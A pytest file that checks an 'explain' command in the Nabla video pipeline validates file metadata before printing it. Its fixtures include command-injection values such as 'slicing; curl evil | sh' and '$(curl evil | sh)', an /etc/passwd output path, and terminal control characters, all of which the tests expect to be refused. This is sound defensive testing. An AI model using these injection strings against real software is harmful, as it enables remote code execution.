"""`explain` prints only what was validated: a hostile file cannot inject anything."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from pipeline.catalog import find
from pipeline.cli import explanation as explaining
from pipeline.cli.explanation import ALONE, explanation
from pipeline.cli.spelling import command
from pipeline.errors import InputError
from pipeline.requests import ClipRequest, LectureRequest, StillRequest
from pipeline.video.recipe import RecipeRequest, recipe

CONTROLS = "\x1b[2J\u202e\n"
LECTURE = {"title": "Limits", "scenes": [{"scene": "slicing", "function": "x^2 + y", "at": [0, 1]}]}
TALK = LectureRequest(file=Path("a b.toml"), language="ko", quality="low", fps=4)


def explain(monkeypatch: pytest.MonkeyPatch, request: RecipeRequest, made: Any = None) -> list[str]:
    """The lines about a file with this request and these values in it."""
    monkeypatch.setattr(explaining, "read", lambda _: recipe(request, made or {}))
    return explanation(Path("a.mp4"))


HOSTILE = [
    ClipRequest(scene="no_such_scene"),
    ClipRequest(scene="slicing; curl evil | sh"),
    ClipRequest(scene="slicing", parameters={"function": "$(curl evil | sh)"}),
    ClipRequest(scene="slicing", parameters={"x; curl evil": "1"}),
    ClipRequest(scene="slicing", beat="; curl evil | sh"),
    StillRequest(scene="slicing", parameters={"at": CONTROLS}),
    LectureRequest(file=Path("x.sh")),
    LectureRequest(file=Path(f"{CONTROLS}.toml")),
]


@pytest.mark.parametrize("hostile", HOSTILE, ids=repr)
def test_a_hostile_recipe_is_refused(monkeypatch: pytest.MonkeyPatch, capsys, hostile) -> None:
    with pytest.raises(InputError) as caught:
        explain(monkeypatch, hostile, LECTURE)
    assert str(caught.value) == "a.mp4 was not made by Nabla, or by another version"
    assert capsys.readouterr() == ("", "")


def test_the_command_is_generated_from_the_request(monkeypatch: pytest.MonkeyPatch) -> None:
    """Another output path, values that are not the scene's: none of it is printed."""
    request = ClipRequest(
        scene="Slicing", output=Path("/etc/passwd"), quality="draft", fps=5,
        parameters={"at": " 1 , 2/2 "},
    )  # fmt: skip
    first, *others, last = explain(monkeypatch, request, {"run this": "curl evil | sh"})
    words = shlex.split(first)
    assert words[:2] == ["render.py", "render"]
    assert "-o" not in words
    assert [words[words.index(name) + 1] for name in ("--quality", "--fps")] == ["draft", "5"]
    assert [line.partition(": ")[0] for line in others] == list(
        find("slicing").parameters({}).as_json()
    )
    assert "curl" not in " ".join([first, *others, last])


def test_a_clip_and_a_still(monkeypatch: pytest.MonkeyPatch) -> None:
    fields = {
        "scene": "slicing",
        "parameters": {"function": "x^2 - y", "at": "1,pi/2"},
        "quality": "low",
        "language": "ko",
    }
    clip = ClipRequest(**fields)
    first, *others, last = explain(monkeypatch, clip)
    assert shlex.split(first) == command(clip)
    assert "--at 1,pi/2" in first
    assert "function: x^2 - y" in others
    assert last.startswith("versions: nabla ")
    still = StillRequest(**fields, time=2.5)
    words = shlex.split(explain(monkeypatch, still)[0])
    assert words == command(still)
    assert (words[1], words[words.index("--time") + 1]) == ("still", "2.5")


def test_a_lecture(monkeypatch: pytest.MonkeyPatch) -> None:
    first, *others, _ = explain(monkeypatch, TALK, LECTURE)
    assert shlex.split(first) == command(TALK)
    assert "title: Limits" in others
    scenes = next(line for line in others if line.startswith("scenes: "))
    assert json.loads(scenes.removeprefix("scenes: "))[0]["function"] == "x^2 + y"


BREAKS = "It's a \\ slide\n- two\tspaces\u2028 and a \u3000 wide one"


@pytest.mark.skipif(shutil.which("bash") is None, reason="it reads the command")
def test_a_text_of_several_lines_comes_back_from_a_shell(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = StillRequest(scene="slide", parameters={"slide": BREAKS}, beat="slide")
    first, *others, _ = explain(monkeypatch, asked)
    assert all(line.isprintable() for line in (first, *others))
    shell = ["bash", "-c", f"printf '%s\\0' {first}"]
    words = subprocess.run(shell, env={"LC_ALL": "C.UTF-8"}, capture_output=True, check=True)
    assert words.stdout.decode("utf-8").split("\0")[:-1] == command(asked)
    line = next(each for each in others if each.startswith("slide: "))
    assert json.loads(line.removeprefix("slide: ")) == BREAKS


@pytest.mark.parametrize("kind", ["picture", "video"])
def test_what_only_a_lecture_file_makes_has_no_command(
    monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    asked = StillRequest(scene=kind, parameters={kind: "a.file", "sha256": "ab"}, beat=kind)
    first, *others, _ = explain(monkeypatch, asked)
    assert first == ALONE
    assert {f"{kind}: a.file", "sha256: ab"} <= {*others}


FALSE_LECTURES: list[dict[str, Any]] = [
    {},
    {**LECTURE, "run this": "curl evil | sh"},
    {**LECTURE, "title": CONTROLS},
    {**LECTURE, "scenes": [{"scene": "evil"}]},
    {**LECTURE, "scenes": [{"scene": "slicing", "function": "$(curl evil | sh)"}]},
    {**LECTURE, "scenes": [{"scene": "slicing", "run this": "curl evil | sh"}]},
]


@pytest.mark.parametrize("made", FALSE_LECTURES, ids=str)
def test_an_invalid_lecture(monkeypatch: pytest.MonkeyPatch, made) -> None:
    with pytest.raises(InputError, match="was not made by Nabla"):
        explain(monkeypatch, TALK, made)


def test_all_lines_are_printable(monkeypatch: pytest.MonkeyPatch) -> None:
    made = {**LECTURE, "scenes": [{"scene": "slicing", "narration": {"cut": f"a{CONTROLS}b"}}]}
    talk = LectureRequest(file=Path("한글.toml"))
    with pytest.raises(InputError):
        explain(monkeypatch, talk, made)
    made["scenes"][0]["narration"]["cut"] = "two\nlines"
    lines = explain(monkeypatch, talk, made)
    assert all(line.isprintable() for line in lines)
